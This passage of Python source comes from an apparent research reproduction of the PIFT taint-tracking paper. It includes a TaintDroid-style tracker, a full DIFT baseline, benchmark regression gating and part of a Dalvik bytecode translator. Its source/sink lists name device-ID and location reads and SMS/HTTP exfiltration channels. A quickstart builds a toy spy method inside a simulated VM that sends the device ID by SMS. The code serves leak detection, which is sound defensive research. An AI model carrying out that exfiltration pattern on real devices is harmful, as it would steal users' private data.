vs variable-granularity TaintDroid.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.dalvik.bytecode import Category, Instr
from repro.dalvik.vm import Activation, DalvikVM

#: Framework sources whose return value is sensitive.
SOURCE_METHODS = {
    "TelephonyManager.getDeviceId",
    "TelephonyManager.getLine1Number",
    "TelephonyManager.getSimSerialNumber",
    "LocationManager.getLastKnownLocation",
}

#: Sink methods mapped to the argument positions carrying the payload.
SINK_METHODS: Dict[str, Sequence[int]] = {
    "SmsManager.sendTextMessage": (2,),
    "HttpURLConnection.connect": (0,),
    "HttpClient.post": (0, 1),
    "Log.i": (1,),
    "Log.d": (1,),
    "Log.e": (1,),
}

#: Intrinsics with no data flow from arguments to anything observable.
_NEUTRAL_INTRINSICS = {
    "Object.<init>",
}


@dataclass
class TaintDroidSinkEvent:
    """One sink invocation as judged by the variable-level tracker."""

    sink_name: str
    tainted: bool


class TaintDroidTracker:
    """Variable-granularity taint propagation over VM bytecode steps.

    Attach with ``tracker.attach(vm)``; afterwards every executed bytecode
    is interpreted for taint *before* it runs (operand values are still
    the pre-state, which is what propagation needs).
    """

    def __init__(self) -> None:
        self._vreg: Set[Tuple[int, int]] = set()  # (frame id, register)
        self._fields: Set[Tuple[int, str]] = set()  # (instance addr, name)
        self._statics: Set[str] = set()
        self._objects: Set[int] = set()  # object-granular (strings, arrays)
        self._known_frames: Set[int] = set()
        self._pending_call: Optional[List[bool]] = None
        self._pending_result = False
        self._exception_taint = False
        self.sink_events: List[TaintDroidSinkEvent] = []

    # -- public surface ---------------------------------------------------------

    def attach(self, vm: DalvikVM) -> "TaintDroidTracker":
        vm.step_observers.append(self._before_step)
        return self

    @property
    def leak_detected(self) -> bool:
        return any(event.tainted for event in self.sink_events)

    def object_tainted(self, address: int) -> bool:
        return address in self._objects

    # -- taint accessors ----------------------------------------------------------

    def _reg_tainted(self, vm, frame, register: int) -> bool:
        if (id(frame), register) in self._vreg:
            return True
        value = vm.get_vreg(register, frame)
        return value in self._objects

    def _set_reg(self, frame, register: int, tainted: bool) -> None:
        key = (id(frame), register)
        if tainted:
            self._vreg.add(key)
        else:
            self._vreg.discard(key)

    def _set_wide(self, frame, register: int, tainted: bool) -> None:
        self._set_reg(frame, register, tainted)
        self._set_reg(frame, register + 1, tainted)

    def _wide_tainted(self, vm, frame, register: int) -> bool:
        return self._reg_tainted(vm, frame, register) or self._reg_tainted(
            vm, frame, register + 1
        )

    # -- the observer ------------------------------------------------------------

    def _before_step(self, vm: DalvikVM, frame: Activation, instr: Instr) -> None:
        fid = id(frame)
        if fid not in self._known_frames:
            self._known_frames.add(fid)
            if self._pending_call is not None:
                base = frame.method.registers - frame.method.ins
                for offset, tainted in enumerate(self._pending_call):
                    self._set_reg(frame, base + offset, tainted)
                self._pending_call = None
        handler = self._DISPATCH.get(instr.op.category)
        if handler is not None:
            handler(self, vm, frame, instr)

    # -- per-category rules ----------------------------------------------------------

    def _do_move(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, self._reg_tainted(vm, frame, instr.b))

    def _do_move_wide(self, vm, frame, instr) -> None:
        self._set_wide(frame, instr.a, self._wide_tainted(vm, frame, instr.b))

    def _do_move_result(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, self._pending_result)
        if self._pending_result:
            # A tainted *object* result carries its tag on the object
            # itself (TaintDroid stores array/string taint with the value).
            reference = vm.retval
            if reference and vm.heap.maybe_deref(reference) is not None:
                self._objects.add(reference)

    def _do_move_result_wide(self, vm, frame, instr) -> None:
        self._set_wide(frame, instr.a, self._pending_result)

    def _do_move_exception(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, self._exception_taint)

    def _do_const(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, False)

    def _do_const_wide(self, vm, frame, instr) -> None:
        self._set_wide(frame, instr.a, False)

    def _do_return(self, vm, frame, instr) -> None:
        self._pending_result = self._reg_tainted(vm, frame, instr.a)

    def _do_return_wide(self, vm, frame, instr) -> None:
        self._pending_result = self._wide_tainted(vm, frame, instr.a)

    def _do_return_void(self, vm, frame, instr) -> None:
        self._pending_result = False

    def _do_throw(self, vm, frame, instr) -> None:
        self._exception_taint = self._reg_tainted(vm, frame, instr.a)

    def _do_unop(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, self._reg_tainted(vm, frame, instr.b))

    def _do_unop_wide(self, vm, frame, instr) -> None:
        self._set_wide(frame, instr.a, self._wide_tainted(vm, frame, instr.b))

    def _do_convert(self, vm, frame, instr) -> None:
        name = instr.op.name
        src_wide = name.startswith(("long-", "double-"))
        dst_wide = name.endswith(("long", "double"))
        tainted = (
            self._wide_tainted(vm, frame, instr.b)
            if src_wide
            else self._reg_tainted(vm, frame, instr.b)
        )
        if dst_wide:
            self._set_wide(frame, instr.a, tainted)
        else:
            self._set_reg(frame, instr.a, tainted)

    def _do_binop(self, vm, frame, instr) -> None:
        name = instr.op.name
        if name.endswith("/2addr"):
            tainted = self._reg_tainted(vm, frame, instr.a) or self._reg_tainted(
                vm, frame, instr.b
            )
        elif name.endswith(("/lit8", "/lit16")) or name == "rsub-int":
            tainted = self._reg_tainted(vm, frame, instr.b)
        else:
            tainted = self._reg_tainted(vm, frame, instr.b) or self._reg_tainted(
                vm, frame, instr.c
            )
        self._set_reg(frame, instr.a, tainted)

    def _do_binop_float(self, vm, frame, instr) -> None:
        if "double" in instr.op.name:
            self._do_binop_wide(vm, frame, instr)
        else:
            self._do_binop(vm, frame, instr)

    def _do_binop_wide(self, vm, frame, instr) -> None:
        if instr.op.name.endswith("/2addr"):
            tainted = self._wide_tainted(vm, frame, instr.a) or self._wide_tainted(
                vm, frame, instr.b
            )
        else:
            tainted = self._wide_tainted(vm, frame, instr.b) or self._wide_tainted(
                vm, frame, instr.c
            )
        self._set_wide(frame, instr.a, tainted)

    def _do_cmp(self, vm, frame, instr) -> None:
        self._set_reg(
            frame,
            instr.a,
            self._wide_tainted(vm, frame, instr.b)
            or self._wide_tainted(vm, frame, instr.c),
        )

    # Arrays: one taint tag per array object (TaintDroid's coarsening).

    def _do_aget(self, vm, frame, instr) -> None:
        array_ref = vm.get_vreg(instr.b, frame)
        tainted = array_ref in self._objects
        if instr.op.category is Category.AGET_WIDE:
            self._set_wide(frame, instr.a, tainted)
        else:
            self._set_reg(frame, instr.a, tainted)

    def _do_aput(self, vm, frame, instr) -> None:
        array_ref = vm.get_vreg(instr.b, frame)
        if instr.op.category is Category.APUT_WIDE:
            tainted = self._wide_tainted(vm, frame, instr.a)
        else:
            tainted = self._reg_tainted(vm, frame, instr.a)
        if tainted and array_ref:
            self._objects.add(array_ref)

    # Fields: per-(instance, field) precision, like TaintDroid.

    def _field_key(self, vm, frame, instr) -> Optional[Tuple[int, str]]:
        instance_ref = vm.get_vreg(instr.b, frame)
        if not instance_ref or not instr.symbol:
            return None
        return (instance_ref, instr.symbol)

    def _do_iget(self, vm, frame, instr) -> None:
        key = self._field_key(vm, frame, instr)
        tainted = key in self._fields if key else False
        if instr.op.category is Category.IGET_WIDE:
            self._set_wide(frame, instr.a, tainted)
        else:
            self._set_reg(frame, instr.a, tainted)

    def _do_iput(self, vm, frame, instr) -> None:
        key = self._field_key(vm, frame, instr)
        if key is None:
            return
        if instr.op.category is Category.IPUT_WIDE:
            tainted = self._wide_tainted(vm, frame, instr.a)
        else:
            tainted = self._reg_tainted(vm, frame, instr.a)
        if tainted:
            self._fields.add(key)
        else:
            self._fields.discard(key)

    def _do_sget(self, vm, frame, instr) -> None:
        tainted = (instr.symbol or "") in self._statics
        if instr.op.category is Category.SGET_WIDE:
            self._set_wide(frame, instr.a, tainted)
        else:
            self._set_reg(frame, instr.a, tainted)

    def _do_sput(self, vm, frame, instr) -> None:
        if instr.op.category is Category.SPUT_WIDE:
            tainted = self._wide_tainted(vm, frame, instr.a)
        else:
            tainted = self._reg_tainted(vm, frame, instr.a)
        if tainted:
            self._statics.add(instr.symbol or "")
        else:
            self._statics.discard(instr.symbol or "")

    def _do_array_length(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, False)

    def _do_instance_of(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, False)

    def _do_new(self, vm, frame, instr) -> None:
        self._set_reg(frame, instr.a, False)

    # -- invokes: the native-method heuristic ------------------------------------

    def _do_invoke(self, vm, frame, instr) -> None:
        name = instr.symbol or ""
        arg_taints = [self._reg_tainted(vm, frame, r) for r in instr.args]
        if name in vm.intrinsics:
            self._apply_intrinsic_rule(vm, frame, instr, name, arg_taints)
        else:
            self._pending_call = arg_taints
            self._pending_result = False

    def _apply_intrinsic_rule(self, vm, frame, instr, name, arg_taints) -> None:
        if name in SINK_METHODS:
            payload_positions = SINK_METHODS[name]
            tainted = any(
                arg_taints[p] for p in payload_positions if p < len(arg_taints)
            )
            self.sink_events.append(TaintDroidSinkEvent(name, tainted))
            self._pending_result = False
            return
        if name in SOURCE_METHODS or name in ("Location.getLatitude",
                                               "Location.getLongitude"):
            if name in SOURCE_METHODS:
                self._pending_result = True
                self._mark_result_object = True
            else:
                # getLatitude/Longitude: receiver-tainted -> result tainted.
                self._pending_result = arg_taints[0] if arg_taints else True
            # The returned object itself gets marked when move-result runs;
            # approximate by tainting the retval object after the fact via
            # the pending flag plus object marking below.
            self._pending_source = name in SOURCE_METHODS
            return
        if name in _NEUTRAL_INTRINSICS:
            self._pending_result = False
            return
        if name == "System.arraycopy":
            # TaintDroid special-cases common natives with real data flow:
            # arraycopy moves the source array's tag to the destination.
            if len(instr.args) >= 3 and arg_taints[0]:
                destination_ref = vm.get_vreg(instr.args[2], frame)
                if destination_ref:
                    self._objects.add(destination_ref)
            self._pending_result = False
            return
        # TaintDroid's native heuristic: result taint = OR of argument
        # taints; mutating framework calls also taint the receiver object.
        any_tainted = any(arg_taints)
        self._pending_result = any_tainted
        if any_tainted and instr.args:
            receiver_ref = vm.get_vreg(instr.args[0], frame)
            if receiver_ref:
                self._objects.add(receiver_ref)

    _pending_source = False
    _mark_result_object = False

    def _do_move_result_object_hook(self, vm, frame, instr) -> None:
        """move-result(-object) after a source: mark the returned object."""
        self._do_move_result(vm, frame, instr)
        if self._pending_source:
            # The retval slot currently holds the source object's address.
            reference = vm.retval
            if reference:
                self._objects.add(reference)
            self._set_reg(frame, instr.a, True)
            self._pending_source = False

    _DISPATCH = {
        Category.MOVE: _do_move,
        Category.MOVE_WIDE: _do_move_wide,
        Category.MOVE_RESULT: _do_move_result_object_hook,
        Category.MOVE_RESULT_WIDE: _do_move_result_wide,
        Category.MOVE_EXCEPTION: _do_move_exception,
        Category.CONST: _do_const,
        Category.CONST_WIDE: _do_const_wide,
        Category.CONST_STRING: _do_const,
        Category.CONST_CLASS: _do_const,
        Category.RETURN: _do_return,
        Category.RETURN_WIDE: _do_return_wide,
        Category.RETURN_VOID: _do_return_void,
        Category.THROW: _do_throw,
        Category.UNARY_INT: _do_unop,
        Category.UNARY_WIDE: _do_unop_wide,
        Category.UNARY_FLOAT: _do_unop,
        Category.CONVERT: _do_convert,
        Category.BINOP_INT: _do_binop,
        Category.BINOP_2ADDR_INT: _do_binop,
        Category.BINOP_LIT: _do_binop,
        Category.BINOP_WIDE: _do_binop_wide,
        Category.BINOP_2ADDR_WIDE: _do_binop_wide,
        Category.BINOP_FLOAT: _do_binop_float,
        Category.BINOP_2ADDR_FLOAT: _do_binop_float,
        Category.CMP: _do_cmp,
        Category.AGET: _do_aget,
        Category.AGET_WIDE: _do_aget,
        Category.APUT: _do_aput,
        Category.APUT_WIDE: _do_aput,
        Category.APUT_OBJECT: _do_aput,
        Category.IGET: _do_iget,
        Category.IGET_WIDE: _do_iget,
        Category.IPUT: _do_iput,
        Category.IPUT_WIDE: _do_iput,
        Category.SGET: _do_sget,
        Category.SGET_WIDE: _do_sget,
        Category.SPUT: _do_sput,
        Category.SPUT_WIDE: _do_sput,
        Category.ARRAY_LENGTH: _do_array_length,
        Category.INSTANCE_OF: _do_instance_of,
        Category.NEW_INSTANCE: _do_new,
        Category.NEW_ARRAY: _do_new,
        Category.INVOKE: _do_invoke,
    }

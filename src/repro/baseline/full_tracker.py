"""Full register-level DIFT — the ground-truth baseline PIFT trades against.

This is the "full-tracking" design the paper contrasts with (§2: Suh et
al., Raksha, FlexiTaint): every storage element — each CPU register and
each memory byte — carries a taint bit, and *every* instruction propagates
taint from its source operands to its destinations:

* ALU/move: destination registers become tainted iff any source register
  is (``RegisterPatch`` records report the true dataflow of the oracle-
  computed instructions, so the baseline stays exact),
* load: destination registers become tainted iff any loaded byte is,
* store: stored bytes inherit the data registers' taint (overwrite with
  clean data *clears* taint — precise untainting for free).

Besides serving as the accuracy oracle, the baseline exposes the cost
model of §2's argument: it must do taint work on every instruction, while
PIFT only acts on loads and stores ("at least an order of magnitude less
frequent").
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, List, Optional, Set

from repro.core.events import AccessKind
from repro.core.ranges import AddressRange, RangeSet
from repro.isa.instructions import ExecutionRecord
from repro.isa.registers import REGISTER_COUNT


@dataclass
class FullTrackerStats:
    """Cost counters: how much work full tracking performs."""

    instructions_processed: int = 0
    propagation_operations: int = 0  # per-instruction taint updates
    memory_taint_operations: int = 0  # byte-range taints/untaints

    @property
    def operations_per_instruction(self) -> float:
        if not self.instructions_processed:
            return 0.0
        return (
            self.propagation_operations + self.memory_taint_operations
        ) / self.instructions_processed


class FullDIFTTracker:
    """Byte- and register-accurate taint propagation over execution records."""

    def __init__(self) -> None:
        self.register_taint: List[bool] = [False] * REGISTER_COUNT
        self.memory_taint = RangeSet()
        self.stats = FullTrackerStats()

    # -- sources and sinks -----------------------------------------------------

    def taint_source(self, address_range: AddressRange) -> None:
        self.memory_taint.add(address_range)

    def check(self, address_range: AddressRange) -> bool:
        return self.memory_taint.overlaps(address_range)

    @property
    def tainted_bytes(self) -> int:
        return self.memory_taint.total_size

    # -- propagation -------------------------------------------------------------

    def observe(self, record: ExecutionRecord) -> None:
        """Propagate taint through one executed instruction."""
        self.stats.instructions_processed += 1
        if record.kind is AccessKind.LOAD:
            assert record.address_range is not None
            tainted = self.memory_taint.overlaps(record.address_range)
            for register in record.data_registers:
                self.register_taint[register] = tainted
            self._clear_written_address_registers(record)
            self.stats.propagation_operations += 1
        elif record.kind is AccessKind.STORE:
            assert record.address_range is not None
            tainted = any(
                self.register_taint[register] for register in record.data_registers
            )
            if tainted:
                self.memory_taint.add(record.address_range)
            else:
                # Precise untainting: clean data overwrites the bytes.
                self.memory_taint.remove(record.address_range)
            self._clear_written_address_registers(record)
            self.stats.memory_taint_operations += 1
        else:
            if record.writes:
                tainted = any(
                    self.register_taint[register] for register in record.reads
                )
                for register in record.writes:
                    self.register_taint[register] = tainted
                self.stats.propagation_operations += 1

    def _clear_written_address_registers(self, record: ExecutionRecord) -> None:
        """Writeback-updated base registers get address (untainted) values
        unless they were data destinations."""
        for register in record.writes:
            if register not in record.data_registers:
                tainted = any(
                    self.register_taint[source]
                    for source in record.reads
                    if source not in record.data_registers
                )
                self.register_taint[register] = tainted

    def run(self, records: Iterable[ExecutionRecord]) -> FullTrackerStats:
        for record in records:
            self.observe(record)
        return self.stats

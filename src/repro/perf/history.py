"""The benchmark history store and the median-regression gate.

The history file is shared JSONL: each benchmark appends one record per
run, and each gated *metric* filters the file down to the records that
carry it — so several benchmarks coexist in one ``BENCH_history.jsonl``
without schema coordination, and foreign/malformed lines never break a
reader.

The gate compares against the **median** of history rather than the
previous run: the median tolerates the odd noisy CI run on either side
without letting a slow drift ratchet the baseline downward the way
"compare to previous" would.  Gated metrics should be *dimensionless
ratios* (speedup over a scalar loop, throughput normalised by a
calibration loop) so they are robust to CI machines of different speeds.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import List, Optional, Tuple, Union

#: A gate fails when the measured metric drops below
#: ``(1 - REGRESSION_TOLERANCE)`` times the history baseline.
REGRESSION_TOLERANCE = 0.25


def load_history(path: Union[str, Path], metric: str) -> List[dict]:
    """All prior records carrying ``metric`` (malformed/foreign lines skip)."""
    path = Path(path)
    if not path.exists():
        return []
    records = []
    for line in path.read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if not line:
            continue
        try:
            record = json.loads(line)
        except json.JSONDecodeError:
            continue
        if isinstance(record, dict) and metric in record:
            records.append(record)
    return records


def append_history(path: Union[str, Path], record: dict) -> None:
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(record, sort_keys=True) + "\n")


def baseline(history: List[dict], metric: str) -> float:
    """The gate baseline: median of ``metric`` across the history."""
    values = sorted(record[metric] for record in history)
    middle = len(values) // 2
    if len(values) % 2:
        return values[middle]
    return (values[middle - 1] + values[middle]) / 2


def check_regression(
    history: List[dict],
    current: float,
    metric: str,
    tolerance: float = REGRESSION_TOLERANCE,
) -> Tuple[bool, Optional[float]]:
    """(ok, baseline) — ok is False when current regressed > tolerance.

    An empty history always passes (the first run seeds the baseline).
    """
    if not history:
        return True, None
    value = baseline(history, metric)
    return current >= (1.0 - tolerance) * value, value

"""repro.perf — benchmark history persistence and regression gating.

One shared ``BENCH_history.jsonl`` accumulates a summary line per
benchmark run; :func:`check_regression` compares a freshly-measured
metric against the *median* of the recorded history and fails when it
regressed beyond tolerance.  Every gated benchmark
(``bench_sweep_scaling.py``, ``bench_tracker_throughput.py``) rides this
module so new benchmarks join the gate by naming a metric, not by
re-implementing the bookkeeping.
"""

from repro.perf.history import (
    REGRESSION_TOLERANCE,
    append_history,
    baseline,
    check_regression,
    load_history,
)

__all__ = [
    "REGRESSION_TOLERANCE",
    "append_history",
    "baseline",
    "check_regression",
    "load_history",
]

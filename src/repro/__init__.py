"""PIFT: Predictive Information-Flow Tracking — a full reproduction.

Reproduces Yoon, Salajegheh, Chen & Christodorescu, *PIFT: Predictive
Information-Flow Tracking* (ASPLOS 2016): a taint tracker that watches only
memory loads and stores, propagating taint from a tainted load to the next
few stores inside a bounded *tainting window*.

Package map:

* :mod:`repro.core` — the PIFT tracker (Algorithm 1), taint storage
  hardware models, and the manager/native/module software stack.
* :mod:`repro.isa` — ARM-flavoured CPU simulator (the gem5 stand-in).
* :mod:`repro.dalvik` — register-based VM whose bytecodes execute as mterp
  native routines with memory-resident virtual registers.
* :mod:`repro.android` — device model with sensitive sources and sinks.
* :mod:`repro.baseline` — full register-level DIFT (the accuracy oracle).
* :mod:`repro.analysis` — trace statistics, replay, sweeps, overheads.
* :mod:`repro.apps` — the DroidBench-style suite, malware samples, corpora.

Quickstart::

    from repro.android import AndroidDevice
    from repro.dalvik import MethodBuilder

    device = AndroidDevice()
    b = MethodBuilder("Spy.main", registers=8)
    b.invoke_static("TelephonyManager.getDeviceId")
    b.move_result_object(0)
    b.const_string(1, "+15551234567")
    b.const(2, 0)
    b.invoke("SmsManager.sendTextMessage", 1, 2, 0)
    b.return_void()
    device.install([b.build()])
    device.run("Spy.main")
    assert device.leak_detected
"""

__version__ = "1.0.0"

from repro.core import (
    PAPER_DEFAULT,
    PAPER_MALWARE_MINIMUM,
    PAPER_PERFECT,
    AddressRange,
    PIFTConfig,
    PIFTTracker,
    RangeSet,
)

__all__ = [
    "AddressRange",
    "PAPER_DEFAULT",
    "PAPER_MALWARE_MINIMUM",
    "PAPER_PERFECT",
    "PIFTConfig",
    "PIFTTracker",
    "RangeSet",
    "__version__",
]

"""The mterp translator: Dalvik bytecode → native routine (paper §4.1).

Each bytecode executes as a fixed native instruction sequence in which the
operands are fetched from the memory-resident virtual-register array
(``GET_VREG`` = ``ldr rX, [rFP, vN, lsl #2]``) and results are written back
(``SET_VREG`` = ``str rX, [rFP, vN, lsl #2]``), exactly the structure of the
paper's Figures 8 and 9.  Because the translation rules are pre-defined,
the distance between a bytecode's data loads and its data store is a
constant — the numbers published in the paper's Table 1 — and the routines
here are constructed to measure to those exact values (asserted by the
test suite).

The translator is *oracle-assisted*: operations the simplified ALU cannot
evaluate bit-exactly (division, floating point via ``__aeabi_*`` helpers,
64-bit multiply highs, register-specified shifts) receive their result as a
:class:`~repro.isa.instructions.RegisterPatch` carrying the true register
dataflow, computed by the VM before translation.

mterp register conventions: ``rPC``=r4, ``rFP``=r5, ``rSELF``=r6,
``rINST``=r7, ``rIBASE``=r8.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from repro.isa import asm
from repro.isa.abihelpers import helper_body
from repro.isa.instructions import Instruction
from repro.dalvik.bytecode import Category, Format, Instr

# Interpreter thread-state (rSELF) layout.
SELF_RETVAL = 0  # 8 bytes: method return value
SELF_EXCEPTION = 8  # 4 bytes: pending exception reference
SELF_POOL = 12  # 4 bytes: constant-pool base pointer
SELF_STATICS = 16  # 4 bytes: static-field area base pointer
SELF_ARGS = 20  # 4 bytes: native (intrinsic) argument area pointer
SELF_SIZE = 32

#: Bytes reserved below each frame's vreg array for the saved rPC / rFP.
FRAME_SAVE_BYTES = 8


@dataclass
class Routine:
    """A translated native routine plus its static distance markers."""

    instructions: List[Instruction] = field(default_factory=list)
    data_load_index: Optional[int] = None
    data_store_index: Optional[int] = None

    @property
    def load_store_distance(self) -> Optional[int]:
        """Distance from the (first) data load to the data store, or None."""
        if self.data_load_index is None or self.data_store_index is None:
            return None
        return self.data_store_index - self.data_load_index

    def __len__(self) -> int:
        return len(self.instructions)


def _is_opcode_crack(instruction: Instruction) -> bool:
    """GET_INST_OPCODE: and ip, rINST, #255."""
    from repro.isa.instructions import Alu, AluOp, Imm as _Imm

    return (
        isinstance(instruction, Alu)
        and instruction.op is AluOp.AND
        and instruction.rd == 12  # ip
        and instruction.rn == 7  # rINST
        and isinstance(instruction.src, _Imm)
        and instruction.src.value == 255
    )


def _is_handler_dispatch(instruction: Instruction) -> bool:
    """GOTO_OPCODE: add pc, rIBASE, ip, lsl #6."""
    from repro.isa.instructions import Alu, AluOp

    return (
        isinstance(instruction, Alu)
        and instruction.op is AluOp.ADD
        and instruction.rd == 15  # pc
        and instruction.rn == 8  # rIBASE
    )


def fuse_dispatch(routine: "Routine") -> "Routine":
    """JIT-style translation: drop the per-bytecode handler dispatch.

    Dalvik's trace JIT chains translated bytecodes directly instead of
    indirecting through the handler table, which removes the
    ``GET_INST_OPCODE`` / ``GOTO_OPCODE`` pair from each routine (the
    instruction *fetch* stays — operands still come from the code units).
    Used by the JIT-impact ablation; the paper's §4.1 reports the memory-
    operation patterns barely move, which the ablation verifies here.
    """
    kept: List[Instruction] = []
    load_index: Optional[int] = None
    store_index: Optional[int] = None
    for index, instruction in enumerate(routine.instructions):
        if _is_opcode_crack(instruction) or _is_handler_dispatch(instruction):
            continue
        if index == routine.data_load_index:
            load_index = len(kept)
        if index == routine.data_store_index:
            store_index = len(kept)
        kept.append(instruction)
    return Routine(kept, load_index, store_index)


class _Builder:
    """Accumulates a routine, recording the marked data load/store."""

    def __init__(self) -> None:
        self._routine = Routine()

    def emit(self, *instructions: Instruction) -> None:
        self._routine.instructions.extend(instructions)

    def data_load(self, instruction: Instruction) -> None:
        if self._routine.data_load_index is None:
            self._routine.data_load_index = len(self._routine.instructions)
        self._routine.instructions.append(instruction)

    def data_store(self, instruction: Instruction) -> None:
        self._routine.data_store_index = len(self._routine.instructions)
        self._routine.instructions.append(instruction)

    def build(self) -> Routine:
        return self._routine


# -- mterp macro equivalents -------------------------------------------------


def get_vreg(rd: str, rindex: str):
    """``GET_VREG(rd, rindex)``: ldr rd, [rFP, rindex, lsl #2]."""
    return asm.ldr(rd, "rFP", asm.reg(rindex, lsl=2))


def set_vreg(rs: str, rindex: str):
    """``SET_VREG(rs, rindex)``: str rs, [rFP, rindex, lsl #2]."""
    return asm.str_(rs, "rFP", asm.reg(rindex, lsl=2))


def fetch(rd: str, units_ahead: int):
    """``FETCH(rd, k)``: ldrh rd, [rPC, #2k] — read a later code unit."""
    return asm.ldrh(rd, "rPC", 2 * units_ahead)


def fetch_advance(units: int):
    """``FETCH_ADVANCE_INST(k)``: ldrh rINST, [rPC, #2k]!."""
    return asm.ldrh("rINST", "rPC", 2 * units, wb=True)


def get_inst_opcode():
    """``GET_INST_OPCODE(ip)``: and ip, rINST, #255."""
    return asm.and_("ip", "rINST", 255)


def goto_opcode():
    """``GOTO_OPCODE(ip)``: add pc, rIBASE, ip, lsl #6."""
    return asm.add("pc", "rIBASE", asm.reg("ip", lsl=6))


def _vreg_addr(rd: str, rindex: str):
    """Materialise &vregs[rindex] for wide (ldrd/strd) access."""
    return asm.add(rd, "rFP", asm.reg(rindex, lsl=2))


_ELEMENT_SHIFT = {1: 0, 2: 1, 4: 2, 8: 3}


def _array_load(rd: str, base: str, offset: int, width: int):
    if width == 1:
        return asm.ldrsb(rd, base, offset)
    if width == 2:
        return asm.ldrh(rd, base, offset)
    return asm.ldr(rd, base, offset)


def _array_store(rs: str, base: str, offset: int, width: int):
    if width == 1:
        return asm.strb(rs, base, offset)
    if width == 2:
        return asm.strh(rs, base, offset)
    return asm.str_(rs, base, offset)


class MterpTranslator:
    """Builds the native routine for each bytecode category.

    Methods take the :class:`Instr` plus any oracle values the VM resolved
    (patch results, allocation addresses, switch table bases).  They are
    plain functions of their arguments so the test suite can exercise the
    translation rules without a VM.
    """

    # -- trivia ---------------------------------------------------------------

    def nop(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(fetch_advance(instr.units), get_inst_opcode(), goto_opcode())
        return b.build()

    # -- moves (Table 1: move=3, /from16 and /16 = 2) -----------------------

    def move(self, instr: Instr) -> Routine:
        b = _Builder()
        if instr.op.fmt is Format.F12X:
            b.emit(
                asm.mov("r1", asm.reg("rINST", lsr=12)),  # r1 <- B
                asm.ubfx("r0", "rINST", 8, 4),  # r0 <- A
            )
            b.data_load(get_vreg("r2", "r1"))
            b.emit(fetch_advance(instr.units), get_inst_opcode())
            b.data_store(set_vreg("r2", "r0"))
            b.emit(goto_opcode())
        elif instr.op.fmt is Format.F22X:
            b.emit(fetch("r1", 1), asm.mov("r0", asm.reg("rINST", lsr=8)))
            b.data_load(get_vreg("r2", "r1"))
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r2", "r0"))
            b.emit(get_inst_opcode(), goto_opcode())
        else:  # F32X
            b.emit(fetch("r0", 1), fetch("r1", 2))
            b.data_load(get_vreg("r2", "r1"))
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r2", "r0"))
            b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def move_wide(self, instr: Instr) -> Routine:
        b = _Builder()
        if instr.op.fmt is Format.F12X:
            b.emit(
                asm.mov("r3", asm.reg("rINST", lsr=12)),
                asm.ubfx("r2", "rINST", 8, 4),
                _vreg_addr("r3", "r3"),
                _vreg_addr("r2", "r2"),
            )
            b.data_load(asm.ldrd("r0", "r1", "r3"))
            b.emit(fetch_advance(instr.units), get_inst_opcode())
            b.data_store(asm.strd("r0", "r1", "r2"))
            b.emit(goto_opcode())
        else:  # F22X / F32X
            first = [fetch("r3", 1)] if instr.op.fmt is Format.F22X else [
                fetch("r2", 1),
                fetch("r3", 2),
            ]
            b.emit(*first)
            if instr.op.fmt is Format.F22X:
                b.emit(asm.mov("r2", asm.reg("rINST", lsr=8)))
            b.emit(_vreg_addr("r3", "r3"), _vreg_addr("r2", "r2"))
            b.data_load(asm.ldrd("r0", "r1", "r3"))
            b.emit(fetch_advance(instr.units))
            b.data_store(asm.strd("r0", "r1", "r2"))
            b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def move_result(self, instr: Instr, wide: bool = False) -> Routine:
        b = _Builder()
        if wide:
            b.emit(
                asm.mov("r2", asm.reg("rINST", lsr=8)),
                _vreg_addr("r2", "r2"),
            )
            b.data_load(asm.ldrd("r0", "r1", "rSELF", SELF_RETVAL))
            b.emit(fetch_advance(instr.units))
            b.data_store(asm.strd("r0", "r1", "r2"))
        else:
            b.emit(asm.mov("r0", asm.reg("rINST", lsr=8)))
            b.data_load(asm.ldr("r1", "rSELF", SELF_RETVAL))
            b.emit(fetch_advance(instr.units))
            b.data_store(set_vreg("r1", "r0"))
        b.emit(get_inst_opcode(), goto_opcode())
        return b.build()

    def move_exception(self, instr: Instr) -> Routine:
        b = _Builder()
        b.emit(asm.mov("r0", asm.reg("rINST", lsr=8)))
        b.data_load(asm.ldr("r1", "rSELF", SELF_EXCEPTION))
        b.emit(asm.mov("r2", 0))
        b.data_store(set_vreg("r1", "r0"))
        b.emit(
            asm.str_("r2", "rSELF", SELF_EXCEPTION),  # clear the pending slot
            fetch_advance(instr.units),
            get_inst_opcode(),
            goto_opcode(),
        )
        return b.build()

    # -- returns (Table 1: distance 1) ---------------------------------------

    def return_value(self, instr: Instr, wide: bool = False) -> Routine:
        b = _Builder()
        if wide:
            b.emit(
                asm.mov("r2", asm.reg("rINST", lsr=8)),
                _vreg_addr("r2", "r2"),
            )
            b.data_load(asm.ldrd("r0", "r1", "r2"))
            b.data_store(asm.strd("r0", "r1", "rSELF", SELF_RETVAL))
        else:
            b.emit(asm.mov("r2", asm.reg("rINST", lsr=8)))
            b.data_load(get_vreg("r0", "r2"))
            b.data_store(asm.str_("r0", "rSELF", SELF_RETVAL))
        return b.build()

    def return_void(self, instr: Instr) -> Routine:
        return _Builder().build()

    # -- constants -----------------------------------------------------------

    def const(self, instr: Instr) -> Routine:
        b = _Builder()
        fmt = instr.op.fmt
        if fmt is Format.F11N:
            b.emit(
                asm.ubfx("r0", "rINST", 8, 4),
                asm.mov("r1", asm.reg("rINST", lsl=16)),
                asm.mov("r1", asm.reg("r1", asr=28)),  # sign-extend nibble
                fetch_advance(instr.units),
                get_inst_opcode(),
            )
            b.data_store(set_vreg("r1", "r0"))
        elif fmt is Format.F21S:
